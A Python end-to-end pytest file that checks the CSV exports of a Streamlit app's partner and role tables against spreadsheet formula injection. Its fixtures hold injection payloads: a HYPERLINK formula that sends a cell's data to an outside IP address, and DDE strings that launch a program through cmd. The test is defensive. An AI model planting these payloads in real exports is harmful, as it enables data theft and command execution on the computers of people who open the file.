"""Every table's "Download as CSV" (Streamlit's toolbar) gives cells a spreadsheet reads as text.

Found by the security review after issue 11 (failed on the main it started from): a partner named
`=HYPERLINK("http://203.0.113.9/?"&B2;"Klik")` was written into the CSV as it is, a live formula
as soon as a coach opened the export in Excel or LibreOffice Calc; so were a custom role's name
(a column of the role matrix) and `@`, `+` and `-` formulas (DDE).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.e2e.conftest import App, start_app, wait_for_app
from workbench.dossier.model import CustomRole, Dossier, Identity, Partner, RoleAssignment
from workbench.store.dossiers import Store

pytestmark = pytest.mark.e2e
FORMULAS = [
    '=HYPERLINK("http://203.0.113.9/?"&B2;"Klik")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
]
NO_PICKER = "delete window.showSaveFilePicker;"  # headless Chromium: the download goes through a link


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[App]:
    running = start_app(tmp_path_factory.mktemp("csv") / "workbench.db")
    yield running
    running.process.terminate()
    running.process.wait(timeout=10)


def _dossier() -> Dossier:
    partners = [Partner(id=f"p{i}", name=name, org_type="vzw") for i, name in enumerate(FORMULAS)]
    return Dossier(
        identity=Identity(name="Digibank Formules", call="voortraject"),
        partners=partners,
        custom_roles=[CustomRole(key="eigen", label="=1+1")],
        roles=[
            RoleAssignment(id="r0", partner_id="p0", role="promotor"),
            RoleAssignment(id="r1", partner_id="p1", role="eigen"),
        ],
    )


def _download_csv(page: object) -> list[list[str]]:
    """Download the page's (first) table through its toolbar, as a person would."""
    page.locator("[data-testid='stDataFrame']").first.hover()  # type: ignore[attr-defined]
    with page.expect_download() as caught:  # type: ignore[attr-defined]
        page.get_by_role("button", name="Download as CSV").first.click()  # type: ignore[attr-defined]
    text = Path(caught.value.path()).read_text(encoding="utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("path", ["partners", "rollen"])
def test_a_downloaded_table_holds_no_formula(app: App, new_page, path: str) -> None:
    dossier_id = Store(app.db).import_dossier(_dossier(), by="e2e")
    page = new_page()
    page.context.add_init_script(NO_PICKER)
    page.goto(f"{app.url}/{path}?dossier={dossier_id}")
    wait_for_app(page)
    rows = _download_csv(page)
    cells = [cell for row in rows for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    formulas = [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    assert formulas == []
    # What the person sees is the name as typed: the word joiner before it is invisible.
    assert "\u2060" + FORMULAS[0] in cells
